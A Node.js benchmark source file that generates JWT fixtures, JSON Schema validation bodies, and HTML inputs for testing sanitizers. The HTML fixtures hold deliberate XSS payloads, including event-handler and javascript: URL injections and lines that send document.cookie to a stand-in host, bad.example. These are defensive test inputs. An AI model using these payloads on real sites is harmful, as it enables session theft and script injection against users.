'use strict'
// loadWorkloads() → { jwt, validation, html, source }
//
// The benchmark inputs: the parsed JSON files of ../shared/workloads (or
// $RAMPART_SHARED_DIR/workloads) when they are there, so every engineer measures the same bytes;
// otherwise inputs of the same shapes generated here with node:crypto (fresh keys each process),
// so `npm run bench` also works on a clone without the shared folder. `source` says which.
const crypto = require('node:crypto')
const fs = require('node:fs')
const path = require('node:path')

const NAMES = ['jwt', 'validation', 'html']

function sharedWorkloadsDir() {
  const shared = process.env.RAMPART_SHARED_DIR || path.join(__dirname, '..', '..', 'shared')
  return path.join(shared, 'workloads')
}

function readShared(dir) {
  if (!NAMES.every((n) => fs.existsSync(path.join(dir, `${n}.json`)))) return null
  const out = { source: dir }
  for (const n of NAMES) out[n] = JSON.parse(fs.readFileSync(path.join(dir, `${n}.json`), 'utf8'))
  return out
}

// ---------------------------------------------------------------- JWT

const b64u = (data) => Buffer.from(data).toString('base64url')
const CLAIMS_EXP = 4102444800 // 2100-01-01

function encodeJws(header, claims, signer) {
  const input = `${b64u(JSON.stringify(header))}.${b64u(JSON.stringify(claims))}`
  return `${input}.${signer(Buffer.from(input)).toString('base64url')}`
}

function asymmetricEntry(kid, alg, pair) {
  const publicJwk = { ...pair.publicKey.export({ format: 'jwk' }), kid, alg, use: 'sig' }
  const privateJwk = { ...pair.privateKey.export({ format: 'jwk' }), kid, alg, use: 'sig' }
  return {
    kid,
    alg,
    publicKeyPem: pair.publicKey.export({ type: 'spki', format: 'pem' }),
    privateKeyPem: pair.privateKey.export({ type: 'pkcs8', format: 'pem' }),
    publicJwk,
    privateJwk,
  }
}

function generateJwt() {
  const now = Math.floor(Date.now() / 1000)
  const expected = {
    iss: 'https://auth.example.com',
    aud: 'api.example.com',
    exp: CLAIMS_EXP,
    iat: now,
    sub: 'user-42',
    role: 'admin',
  }
  const claimsFor = (sub) => ({
    sub,
    role: expected.role,
    iss: expected.iss,
    aud: expected.aud,
    iat: now,
    exp: CLAIMS_EXP,
  })
  const secret = crypto.randomBytes(32)
  const rsa = crypto.generateKeyPairSync('rsa', { modulusLength: 2048 })
  const ec = crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const ed = crypto.generateKeyPairSync('ed25519')

  const signers = {
    HS256: (data) => crypto.createHmac('sha256', secret).update(data).digest(),
    RS256: (data) => crypto.sign('sha256', data, rsa.privateKey),
    ES256: (data) => crypto.sign('sha256', data, { key: ec.privateKey, dsaEncoding: 'ieee-p1363' }),
    EdDSA: (data) => crypto.sign(null, data, ed.privateKey),
  }
  const tokens = {}
  for (const [alg, signer] of Object.entries(signers)) {
    tokens[alg] = encodeJws({ alg, typ: 'JWT' }, claimsFor(expected.sub), signer)
  }
  const hs256Distinct = []
  for (let i = 0; i < 10000; i++) {
    hs256Distinct.push(
      encodeJws({ alg: 'HS256', typ: 'JWT' }, claimsFor(`user-${String(i).padStart(5, '0')}`), signers.HS256),
    )
  }
  const secretB64u = secret.toString('base64url')
  return {
    description: 'JWT fixtures generated in-process by bench/workloads.js (shared workloads not found).',
    generatedAt: new Date(now * 1000).toISOString(),
    expected,
    hs256: {
      alg: 'HS256',
      secretB64u,
      secretBytes: secret.length,
      jwk: { kty: 'oct', k: secretB64u, alg: 'HS256', kid: 'hs-1', use: 'sig' },
    },
    rs256: asymmetricEntry('rsa-1', 'RS256', rsa),
    es256: asymmetricEntry('ec-1', 'ES256', ec),
    eddsa: asymmetricEntry('ed-1', 'EdDSA', ed),
    tokens,
    hs256Distinct,
  }
}

// ---------------------------------------------------------------- validation

const SCHEMA_DIALECT = 'https://json-schema.org/draft/2020-12/schema'

function userSchema() {
  return {
    $schema: SCHEMA_DIALECT,
    $id: 'https://example.com/schemas/user.json',
    title: 'user',
    type: 'object',
    required: ['username', 'email', 'password'],
    properties: {
      username: { type: 'string', pattern: '^[a-zA-Z0-9]+$', minLength: 3, maxLength: 30 },
      email: { type: 'string', format: 'email' },
      password: { type: 'string', pattern: '^[a-zA-Z0-9]{3,30}$' },
    },
    additionalProperties: false,
  }
}

function orderSchema() {
  return {
    $schema: SCHEMA_DIALECT,
    $id: 'https://example.com/schemas/order.json',
    title: 'order',
    type: 'object',
    required: ['customer', 'items'],
    properties: {
      customer: {
        type: 'object',
        required: ['id', 'name'],
        properties: {
          id: { type: 'integer', minimum: 1 },
          name: { type: 'string', maxLength: 100 },
          tags: { type: 'array', maxItems: 10, items: { type: 'string' } },
        },
        additionalProperties: false,
      },
      items: {
        type: 'array',
        minItems: 1,
        maxItems: 1000,
        items: {
          type: 'object',
          required: ['sku', 'qty', 'price'],
          properties: {
            sku: { type: 'string', pattern: '^[A-Z]{3}-[0-9]{4}$' },
            qty: { type: 'integer', minimum: 1, maximum: 100 },
            price: { type: 'number', exclusiveMinimum: 0 },
          },
          additionalProperties: false,
        },
      },
      note: { type: 'string', maxLength: 2000 },
    },
    additionalProperties: false,
  }
}

function orderItem(i) {
  const letter = (k) => String.fromCharCode(65 + (k % 26))
  return {
    sku: `${letter(i * 3 + 2)}${letter(i * 5 + 7)}${letter(i * 11 + 1)}-${2000 + ((i * 53) % 8000)}`,
    qty: 1 + ((i * 29) % 100),
    price: Math.round((1.49 + i * 1.21) * 100) / 100,
  }
}

function generateValidation() {
  const user = { username: 'janedoe77', email: 'jane.doe@example.org', password: 'Tr0ub4dor3' }
  return {
    description:
      'JSON Schema 2020-12 schemas plus valid/invalid request bodies (generated by bench/workloads.js).',
    schemas: { user: userSchema(), order: orderSchema() },
    bodies: {
      user: {
        valid: user,
        invalid: {
          badEmail: { ...user, email: 'jane.doe@@example' },
          shortUsername: { ...user, username: 'jd' },
          extraProperty: { ...user, isAdmin: true },
        },
      },
      order: {
        valid: {
          customer: { id: 1187, name: 'Northwind Garden Supplies', tags: ['retail', 'express', 'uk'] },
          items: Array.from({ length: 100 }, (_, i) => orderItem(i)),
          note: 'Ring the bell at the side gate; parcels can be left with the neighbour at number 12.',
        },
      },
    },
  }
}

// ---------------------------------------------------------------- HTML

const SMALL_COMMENT =
  '<p>Nice write-up, <b>bookmarked</b>! The <i>examples</i> help.</p>' +
  '<script>alert(document.domain)</script>' +
  '<img src="nope" onerror="alert(7)"><a href="javascript:void(alert(1))">see more</a>'

function blogPost(part) {
  const heading = part
    ? `Hardening a Node.js Service, Step by Step (part ${part})`
    : 'Hardening a Node.js Service, Step by Step'
  return `<article class="entry" id="entry-${part}" style="max-width:700px;margin:0 auto;padding:8px">
<h1>${heading}</h1>
<p class="meta" style="color:#555;font-size:0.85em">Written by <a href="https://notes.example.org/people/sam">Sam Operator</a> &middot; 10 minute read</p>
<p>Most incidents we have seen started with something small: a header nobody set, a token nobody checked closely,
a comment box that accepted <em>anything</em>. This article goes through the <strong>request pipeline</strong> of a typical
<em>Node.js</em> API and the protection each stage adds, and what each of them costs per request.</p>
<h2>Response headers</h2>
<p>A few headers such as <code>Content-Security-Policy</code>, <code>Referrer-Policy</code> and
<code>Cross-Origin-Opener-Policy</code> shut entire families of attacks at almost no cost.
The <a href="https://owasp.org/www-project-secure-headers/" title="OWASP secure headers" target="_blank" rel="noopener noreferrer">OWASP project</a> keeps a good list.</p>
<ul>
  <li>Start with a <abbr title="Content Security Policy">CSP</abbr> in report-only mode.</li>
  <li>Turn on <b>HSTS</b> once every subdomain serves <code>https</code>.</li>
  <li>Remove headers that reveal the framework.</li>
  <li><a href="JaVaScRiPt:alert('csp')">Why CSP matters</a></li>
</ul>
<h2>Tokens</h2>
<p>Each request carries a signed <abbr title="JSON Web Token">JWT</abbr>. Pin the accepted algorithms, check
<code>aud</code>, <code>iss</code> and <code>exp</code>, and keep key rotation boring.</p>
<pre><code>const claims = verifyToken(header.slice(7), keys, { algorithms: ['EdDSA'], issuer: 'https://id.example.org' });</code></pre>
<img src="https://static.example.org/diagrams/token-check.svg" alt="token checks" width="600" height="300" style="border:1px solid #ccc">
<img src="missing.png" onerror="navigator.sendBeacon('https://bad.example/c', document.cookie)" alt="">
<blockquote cite="https://cheatsheetseries.owasp.org">Validate input, encode output. <cite>OWASP Cheat Sheets</cite></blockquote>
<h3>Signing choices</h3>
<table class="algos" border="1" style="border-collapse:collapse;width:100%">
  <thead><tr><th>Scheme</th><th>Key type</th><th>Bytes</th><th>Remarks</th></tr></thead>
  <tbody>
    <tr><td>HS512</td><td>shared secret</td><td>64</td><td>simple, one party</td></tr>
    <tr><td>PS256</td><td>RSA-3072</td><td>384</td><td>probabilistic padding</td></tr>
    <tr><td>ES384</td><td>P-384</td><td>96</td><td onclick="alert('cell')">small and quick</td></tr>
    <tr><td>EdDSA</td><td>Ed25519</td><td>64</td><td>deterministic</td></tr>
  </tbody>
</table>
<h2>Input checks</h2>
<p>Describe every body with a schema and <u>refuse fields you did not expect</u>. A compiled check is
<span style="background:#ff0">far cheaper</span> than walking the schema for each request.</p>
<ol>
  <li>Write the schema next to the route.</li>
  <li>Compile it when the process starts.</li>
  <li>Answer <code>400</code> with every problem listed.</li>
</ol>
<svg width="12" height="12" onload="alert('vector')"><rect width="10" height="10"/></svg>
<iframe src="https://bad.example/embed" width="0" height="0" style="visibility:hidden"></iframe>
<h2>User HTML</h2>
<p>Markup that users send must pass an allow-list. A link such as <a href=" javascript:alert(2)">this one</a>,
<a href="data:text/html;base64,PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==">an encoded page</a> or
<div style="background-image:url(javascript:alert(3))">a styled block</div> must never come back out unchanged.</p>
<form action="https://bad.example/session" method="post"><input name="token" type="hidden" value="x"><button>Continue</button></form>
<math><mtext xlink:href="javascript:alert(4)">y</mtext></math>
<p>Discussion is open below. <object data="applet.swf"></object><embed src="applet.swf"></p>
<h2>Request limits</h2>
<p>Counting requests per client key stops password guessing early; answer <code>429</code> with
<code>Retry-After</code> so polite clients can wait and try again later.</p>
<dl><dt>Period</dt><dd>1 minute</dd><dt>Budget</dt><dd>120 requests</dd></dl>
<h2>Cross-origin calls</h2>
<p>Only origins on an explicit list should be allowed to call the API from a browser. Echoing back whatever
<code>Origin</code> arrives is close to having no policy, and <strong style="color:#c00">credentials make it worse</strong>.
Cache preflight answers with <code>Access-Control-Max-Age</code> to save a round trip.</p>
<ul class="todo">
  <li><input type="checkbox" checked disabled> List allowed origins</li>
  <li><input type="checkbox" disabled> Cache preflight responses</li>
  <li><a href="https://fetch.spec.whatwg.org/#cors-protocol" onmouseover="grab()">The CORS protocol</a></li>
</ul>
<p>Feedback? Write to <a href="mailto:team@example.org">team@example.org</a> or send a pull request on
<a href="https://git.example.org/team/service" target="_blank">our forge</a>.<base href="https://bad.example/"></p>
<hr>
<p><small>&copy; 2025 Example Notes. <a href="/terms" style="color:#888">Terms</a> &middot;
<a href="https://social.example.org/notes"><img src="https://static.example.org/icon.png" alt="Social" width="16" height="16"></a></small></p>
<script>fetch('https://bad.example/log?c=' + encodeURIComponent(document.cookie))</script>
</article>
`
}

function generateHtml() {
  const small = SMALL_COMMENT
  const medium = blogPost(0)
  let large = ''
  for (let part = 1; part <= 20; part++) large += blogPost(part)
  return {
    description:
      'HTML inputs for sanitizers (generated by bench/workloads.js): small comment, medium post, large (20 varied posts).',
    small,
    medium,
    large,
    bytes: {
      small: Buffer.byteLength(small),
      medium: Buffer.byteLength(medium),
      large: Buffer.byteLength(large),
    },
  }
}

// ---------------------------------------------------------------- entry

function generateWorkloads() {
  return { jwt: generateJwt(), validation: generateValidation(), html: generateHtml(), source: 'generated' }
}

let cached = null

/**
 * The workloads every benchmark uses. Reads the shared JSON when present (source is its folder),
 * else generates the same shapes (source 'generated'). Set RAMPART_BENCH_GENERATE=1 to force
 * generation. The result is cached for the process.
 */
function loadWorkloads() {
  if (cached) return cached
  const shared = process.env.RAMPART_BENCH_GENERATE === '1' ? null : readShared(sharedWorkloadsDir())
  cached = shared || generateWorkloads()
  return cached
}

module.exports = { loadWorkloads, generateWorkloads, sharedWorkloadsDir }
